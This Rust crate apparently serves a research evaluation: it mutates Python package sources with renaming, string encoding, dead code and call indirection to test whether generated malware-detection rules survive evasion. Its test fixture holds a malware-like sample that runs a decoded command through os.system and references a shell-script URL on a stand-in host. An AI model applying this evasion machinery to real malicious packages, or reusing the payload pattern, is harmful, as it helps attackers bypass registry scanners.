//! `obfuscate` — a deterministic, seedable adversarial mutation engine
//! for Python package sources.
//!
//! The paper's threat model is adversarial: malware authors control
//! every byte a registry scanner ingests, and LLM-generated YARA/Semgrep
//! rules are only worth deploying if they survive the cheap evasions
//! observed in live registry malware — renaming, string encoding,
//! dead-code padding, import aliasing, call indirection. This crate
//! implements those evasions as composable source-to-source
//! [`Transform`]s over [`pysrc::lex`] token spans, so the evaluation
//! can *measure* detection decay instead of guessing at it.
//!
//! Design rules:
//!
//! * **Semantics-preserving.** Every transform keeps runtime behavior
//!   (and therefore the package's ground-truth label) intact: renames
//!   are consistent and scoped away from imports/attributes/keyword
//!   arguments, encoded strings decode to the original value, injected
//!   code is unreachable or never called and uses no behavior-relevant
//!   vocabulary.
//! * **Deterministic.** A mutant is a pure function of
//!   `(source, profile, seed)`; the per-file RNG stream is derived from
//!   the seed and the file contents, so corpora regenerate byte-identically
//!   across runs and machines (the metamorphic property tests pin this).
//! * **Composable.** Profiles are ordered transform lists; each step
//!   re-lexes the previous output, so e.g. string encoding applied after
//!   call indirection hides even the `getattr` attribute names.
//!
//! # Examples
//!
//! ```
//! use obfuscate::{EvasionProfile, Obfuscator};
//!
//! let engine = Obfuscator::new(EvasionProfile::aggressive(), 42);
//! let mutant = engine.obfuscate_source("import os\nos.system('id')\n");
//! assert!(!mutant.contains("os.system"));
//! assert!(!pysrc::parse_module(&mutant).body.is_empty());
//! ```

#![forbid(unsafe_code)]
#![warn(missing_docs)]

mod churn;
mod deadcode;
mod edit;
mod imports;
mod indirect;
mod profile;
mod rename;
mod strings;

pub use profile::{EvasionProfile, Transform};

use oss_registry::{Package, SourceFile};
use rand::rngs::StdRng;
use rand::SeedableRng;

/// A configured mutation engine: one profile, one seed.
#[derive(Debug, Clone)]
pub struct Obfuscator {
    profile: EvasionProfile,
    seed: u64,
}

impl Obfuscator {
    /// Creates an engine for `profile` with master `seed`.
    pub fn new(profile: EvasionProfile, seed: u64) -> Self {
        Obfuscator { profile, seed }
    }

    /// The engine's profile.
    pub fn profile(&self) -> &EvasionProfile {
        &self.profile
    }

    /// Mutates one Python source file. Deterministic in
    /// `(source, profile, seed)`: the RNG stream is keyed on the seed and
    /// the file bytes, so distinct files diverge but reruns agree.
    pub fn obfuscate_source(&self, source: &str) -> String {
        let mut rng =
            StdRng::seed_from_u64(self.seed ^ digest::fnv1a(source.as_bytes()).rotate_left(17));
        let mut out = source.to_owned();
        for t in &self.profile.transforms {
            out = t.run(&out, &mut rng);
        }
        out
    }

    /// Mutates every `.py` file of a package; metadata and non-Python
    /// files pass through untouched. The mutant is what an attacker
    /// re-uploads: same behaviors, same ground truth, different bytes.
    pub fn obfuscate_package(&self, pkg: &Package) -> Package {
        let files = pkg
            .files()
            .iter()
            .map(|f| {
                if f.path.ends_with(".py") {
                    SourceFile::new(f.path.clone(), self.obfuscate_source(&f.contents))
                } else {
                    f.clone()
                }
            })
            .collect();
        Package::new(pkg.metadata().clone(), files, pkg.ecosystem())
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    const SRC: &str = "\
import os\nimport base64\n\ndef run_payload(cmd):\n    data = base64.b64decode('aWQ=')\n    os.system(data.decode('utf-8'))\n\nrun_payload('http://bexlum.top/run.sh')\n";

    #[test]
    fn aggressive_mutant_changes_bytes_but_parses() {
        let engine = Obfuscator::new(EvasionProfile::aggressive(), 42);
        let out = engine.obfuscate_source(SRC);
        assert_ne!(out, SRC);
        assert!(!pysrc::parse_module(&out).body.is_empty());
    }

    #[test]
    fn same_seed_is_byte_identical() {
        let engine = Obfuscator::new(EvasionProfile::aggressive(), 7);
        assert_eq!(engine.obfuscate_source(SRC), engine.obfuscate_source(SRC));
    }

    #[test]
    fn different_seeds_diverge() {
        let a = Obfuscator::new(EvasionProfile::aggressive(), 1).obfuscate_source(SRC);
        let b = Obfuscator::new(EvasionProfile::aggressive(), 2).obfuscate_source(SRC);
        assert_ne!(a, b);
    }

    #[test]
    fn package_mutation_touches_only_python_files() {
        use oss_registry::{Ecosystem, PackageMetadata};
        let pkg = Package::new(
            PackageMetadata::new("p", "1.0"),
            vec![
                SourceFile::new("p/__init__.py", SRC),
                SourceFile::new("p/data.txt", "not code\n"),
            ],
            Ecosystem::PyPi,
        );
        let engine = Obfuscator::new(EvasionProfile::medium(), 42);
        let out = engine.obfuscate_package(&pkg);
        assert_ne!(
            out.file("p/__init__.py").expect("py").contents,
            pkg.file("p/__init__.py").expect("py").contents
        );
        assert_eq!(out.file("p/data.txt").expect("txt").contents, "not code\n");
        assert_eq!(out.metadata(), pkg.metadata());
        assert_ne!(out.signature(), pkg.signature());
    }
}
